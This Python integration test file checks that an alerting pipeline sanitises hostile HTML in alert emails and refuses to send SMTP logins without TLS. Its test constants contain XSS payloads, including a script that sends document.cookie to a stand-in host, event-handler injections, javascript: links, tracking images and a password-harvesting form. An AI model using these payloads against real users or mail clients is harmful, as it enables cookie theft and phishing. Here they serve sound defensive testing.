"""Alert email content: attacker HTML in a rule's or a log line's text never reaches a
reader, and the SMTP login never travels in clear text.

Every email here is rendered by the executor and sent with the real sender to a real SMTP
server (tests/fixtures/smtp.py); the assertions read what the server received.
"""

from __future__ import annotations

import asyncio
import ssl
from dataclasses import replace
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
import trustme

from pipeline.alerting.delivery.notifications import Notification
from pipeline.alerting.delivery.senders import DeliveryError, send_email
from pipeline.alerting.engine.execute import execute
from pipeline.alerting.engine.run import RunOptions, Services
from pipeline.config import SmtpConfig
from tests.fixtures.smtp import MailSink, free_port

pytestmark = pytest.mark.integration

NOW = datetime(2026, 3, 1, 12, 0, tzinfo=UTC)

# What a log line can carry into a template ({{ctx.payload.hits.hits.0._source.message}}).
HOSTILE_LOG = (
    "<script>document.location='https://evil.example/?c='+document.cookie</script>"
    "<img src=x onerror=alert(1)>"
)
# What a careless (or malicious) rule author writes into body.html.
HOSTILE_HTML = (
    "<html><head><style>body{background:url(https://evil.example/bg.png)}</style></head>"
    "<body onload='steal()'><h1>Disk full on {{ctx.payload.host}}</h1>"
    "<p style='color:red;position:fixed;background-image:url(https://evil.example/p)'>"
    "Free space: <b onclick='steal()'>{{ctx.payload.free}}</b></p>"
    "<p>Last line: {{{ctx.payload.line}}}</p>"
    "<img src='https://evil.example/track.gif?u=ops'>"
    "<img src='//evil.example/relative.gif'>"
    "<a href='javascript:steal()'>click</a> <a href='JaVaScRiPt&#58;steal()'>again</a>"
    "<a href='https://runbooks.example.com/disk'>runbook</a>"
    "<iframe src='https://evil.example/frame'></iframe><object data='x.swf'></object>"
    "<form action='https://evil.example/login'><input name='password'></form>"
    "<table border='1'><tr><td onmouseover='steal()'>sda1</td><td>97%</td></tr></table>"
    "<script>steal()</script></body></html>"
)
PAYLOAD = {
    "host": "edge-7",
    "free": "3%",
    "line": HOSTILE_LOG,
    "timeline": [{"doc_count": n} for n in (1, 4, 2, 9)],
}


def _notification(action: dict[str, Any]) -> Notification:
    """Render one email action through the executor: the notification it stores."""
    stored: list[Notification] = []

    def keep(notification: Notification) -> bool:
        stored.append(notification)
        return True

    watch = {
        "trigger": {"schedule": {"interval": "1m"}},
        "input": {"simple": PAYLOAD},
        "actions": {"mail": {"email": {"to": "ops@example.com", **action}}},
    }
    services = Services(search=dict, index=lambda *a: {}, log_text=lambda *a: None, notify=keep)
    record, _ = execute("disk", watch, RunOptions(execution_time=NOW), services)
    assert record["result"]["actions"][0]["status"] == "success", record
    return stored[0]


def _send(notification: Notification, smtp: SmtpConfig) -> str:
    return asyncio.run(send_email(notification, smtp))


def _html_of(sink: MailSink) -> str:
    html_part = sink.wait_for(1)[0].message.get_body(preferencelist=("html",))
    assert html_part is not None
    return str(html_part.get_content())


def _assert_clean(html: str) -> None:
    lowered = html.lower()
    for gone in ("<script", "onerror", "onclick", "onload", "onmouseover", "javascript:"):
        assert gone not in lowered, gone
    for gone in ("<iframe", "<object", "<form", "<input", "<style", "evil.example"):
        assert gone not in lowered, gone
    assert "position:fixed" not in lowered


def test_hostile_rule_html_and_log_text_are_sanitised_in_the_sent_email(
    smtp_server: MailSink,
) -> None:
    notification = _notification({"subject": "disk", "body": {"html": HOSTILE_HTML}})
    _send(notification, SmtpConfig(host=smtp_server.host, port=smtp_server.port))
    html = _html_of(smtp_server)
    _assert_clean(html)
    # The legitimate content arrives, formatting, table and safe link included.
    assert "<h1>Disk full on edge-7</h1>" in html
    assert '<p style="color:red">Free space: <b>3%</b></p>' in html
    assert 'href="https://runbooks.example.com/disk"' in html
    assert "<td>sda1</td><td>97%</td>" in html
    # The outbox and the watch record show what is sent, not the attack.
    _assert_clean(str(notification.content["html"]))


def test_report_with_chart_survives_and_its_log_values_stay_text(smtp_server: MailSink) -> None:
    report = {
        "title": "Errors on {{ctx.payload.host}}",
        "facts": {"Last line": "{{ctx.payload.line}}"},
        "chart": {"title": "Errors", "path": "ctx.payload.timeline", "threshold": "5"},
    }
    notification = _notification({"subject": "errors", "report": report})
    _send(notification, SmtpConfig(host=smtp_server.host, port=smtp_server.port))
    received = smtp_server.wait_for(1)[0].message
    html = _html_of(smtp_server)
    # The log line is shown as text, escaped, never as markup.
    assert "<script" not in html and "<img src=x" not in html
    assert "&lt;script&gt;" in html and "&lt;img src=x onerror=alert(1)&gt;" in html
    assert '<img src="cid:chart@edgewatch"' in html
    assert "font-family:sans-serif" in html  # the report's own styling kept
    images = [p for p in received.walk() if p.get_content_type() == "image/png"]
    assert len(images) == 1 and images[0]["Content-ID"] == "<chart@edgewatch>"
    png = images[0].get_payload(decode=True)
    assert isinstance(png, bytes) and png.startswith(b"\x89PNG")


def test_html_stored_before_sanitising_is_cleaned_when_sent(smtp_server: MailSink) -> None:
    """A notification already in the outbox (an older version, or written by hand) passes
    the sanitiser at send time too."""
    raw = Notification(
        id="n1",
        rule_id="r",
        action_id="a",
        type="email",
        created=NOW,
        content={"to": ["ops@example.com"], "subject": "s", "html": HOSTILE_HTML, "text": "t"},
    )
    _send(raw, SmtpConfig(host=smtp_server.host, port=smtp_server.port))
    html = _html_of(smtp_server)
    _assert_clean(html)
    assert "runbooks.example.com" in html


def test_sanitising_can_be_widened_to_remote_images(smtp_server: MailSink) -> None:
    smtp = SmtpConfig(
        host=smtp_server.host,
        port=smtp_server.port,
        html_allow=("_formatting", "_blocks", "img"),
    )
    raw = Notification(
        id="n2",
        rule_id="r",
        action_id="a",
        type="email",
        created=NOW,
        content={"to": ["ops@example.com"], "subject": "s", "html": HOSTILE_HTML},
    )
    _send(raw, smtp)
    html = _html_of(smtp_server)
    assert 'src="https://evil.example/track.gif?u=ops"' in html  # asked for
    assert "<script" not in html and "onclick" not in html  # never


# --------------------------------------------------------------------------- SMTP login


def _tls_context(tmp_path: Path) -> tuple[ssl.SSLContext, Path]:
    authority = trustme.CA()
    context = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
    authority.issue_cert("localhost", "127.0.0.1").configure_cert(context)
    ca_file = tmp_path / "ca.pem"
    authority.cert_pem.write_to_path(str(ca_file))
    return context, ca_file


def _mail() -> Notification:
    return Notification(
        id="n3",
        rule_id="r",
        action_id="a",
        type="email",
        created=NOW,
        content={"to": ["ops@example.com"], "subject": "login", "text": "hello"},
    )


# The server below is insecure on purpose (AUTH without TLS), which aiosmtpd warns about.
@pytest.mark.filterwarnings("ignore:Requiring AUTH while not requiring TLS")
def test_credentials_are_refused_by_a_server_without_starttls() -> None:
    """The default (opportunistic) finds no STARTTLS: the login is not sent, the attempt
    fails permanently with the setting to change, and nothing is delivered."""
    sink = MailSink(port=free_port(), credentials=("edgewatch", "s3cret"))
    sink.start()
    try:
        smtp = SmtpConfig(host=sink.host, port=sink.port, username="edgewatch", password="s3cret")
        assert smtp.security == "opportunistic"
        with pytest.raises(DeliveryError) as refused:
            _send(_mail(), smtp)
        failure = refused.value.failure
        assert not failure.retryable
        assert "did not negotiate TLS" in failure.reason
        assert "smtp.allow_insecure" in failure.reason
        assert "s3cret" not in failure.reason
        assert sink.logins == [] and sink.messages == []
        # The explicit escape hatch: the same server, the login sent, the mail delivered.
        _send(_mail(), replace(smtp, allow_insecure=True))
        assert sink.logins == ["edgewatch"] and len(sink.wait_for(1)) == 1
    finally:
        sink.stop()


def test_starttls_is_used_opportunistically_when_offered(tmp_path: Path) -> None:
    context, ca_file = _tls_context(tmp_path)
    # The server offers STARTTLS and accepts the login only after it.
    sink = MailSink(
        port=free_port(), tls="starttls", tls_context=context, credentials=("edgewatch", "s3cret")
    )
    sink.start()
    try:
        smtp = SmtpConfig(
            host=sink.host,
            port=sink.port,
            username="edgewatch",
            password="s3cret",
            ca_certs=ca_file,
        )
        _send(_mail(), smtp)
        assert sink.logins == ["edgewatch"]
        assert sink.wait_for(1)[0].message["Subject"] == "login"
    finally:
        sink.stop()


def test_opportunistic_without_credentials_still_sends_to_a_plain_server(
    smtp_server: MailSink,
) -> None:
    """The local stack's inbox speaks plain SMTP: the default keeps working there."""
    _send(_mail(), SmtpConfig(host=smtp_server.host, port=smtp_server.port))
    assert smtp_server.wait_for(1)[0].message["Subject"] == "login"
